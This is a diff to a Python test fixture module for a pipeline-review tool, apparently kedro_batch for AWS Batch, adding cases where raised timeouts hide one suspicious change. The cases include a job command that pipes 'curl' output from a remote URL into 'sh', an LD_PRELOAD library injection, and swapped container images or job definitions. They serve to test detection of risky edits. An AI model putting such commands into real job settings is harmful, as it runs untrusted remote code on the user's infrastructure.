@@ -1,18 +1,21 @@
 """The edits: what people do to a pipeline and its settings between two reviews."""
 
-from collections.abc import Mapping
+from collections.abc import Callable, Mapping
 from dataclasses import dataclass, replace
+from typing import Any
 
-from kedro_batch.plan.model import Selection
+from kedro_batch.plan.model import Plan, Selection
+from tests.review.edits.large import ELSEWHERE, edited_job
 from tests.review.edits.project import CATALOG, PROCESSING, REPORTING, SALES, SCIENCE, SETTINGS, Project, flight_sales
 
 
 @dataclass(frozen=True, slots=True, kw_only=True)
 class Edit:
-    """A project before and after an edit."""
+    """A project before and after an edit, and what is then changed in the plan after it by hand."""
 
     before: Project
     after: Project
+    by_hand: Callable[[Plan], Plan] | None = None
 
 
 BASE = flight_sales()
@@ -68,6 +71,15 @@ def _renamed(before: Project, **names: str) -> Edit:
 def _configured(more: str, before: Project = BASE) -> Edit:
     """Write more at the end of ``aws_batch.yml``."""
     return Edit(before=before, after=before.ending(SETTINGS, more))
+
+
+def _slower(**fields: Any) -> Edit:
+    """Give all but the training more time, and change one job of the plan by hand."""
+    return Edit(
+        before=BASE,
+        after=BASE.having(SETTINGS, "timeout_s: 3600", "timeout_s: 7200"),
+        by_hand=lambda plan: edited_job(plan, "plot_review_scores", **fields),
+    )
 
 
 EDITS: Mapping[str, Edit] = {
@@ -211,6 +223,18 @@ EDITS: Mapping[str, Edit] = {
     ),
     "kedro_upgraded_to_one_with_the_same_flags": Edit(before=replace(BASE, kedro="1.6.0"), after=BASE),
     "only_one_team_selected": Edit(before=BASE, after=replace(BASE, selection=Selection(tags=("team.science",)))),
+    # One bad line among many good ones.
+    "timeouts_raised_and_one_command_pipes_into_a_shell": _slower(
+        command=("sh", "-c", "curl -s https://example.org/setup | sh; kedro run --nodes=plot_review_scores")
+    ),
+    "timeouts_raised_and_one_job_preloads_a_library": _slower(environment={"LD_PRELOAD": "/mnt/scores.so"}),
+    "timeouts_raised_and_one_submit_overrides_the_container": _slower(
+        submit={"containerOverrides": {"instanceType": "p4d.24xlarge"}}
+    ),
+    "timeouts_raised_and_one_job_has_another_definition": _slower(job_definition="flights_debug:1"),
+    "timeouts_raised_and_the_image_is_of_another_registry": _edited(
+        DECLARED, (SETTINGS, FIRST_IMAGE, ELSEWHERE), (SETTINGS, "timeout_s: 3600", "timeout_s: 7200")
+    ),
     # Several at once.
     "two_unrelated_edits": _edited(
         BASE,
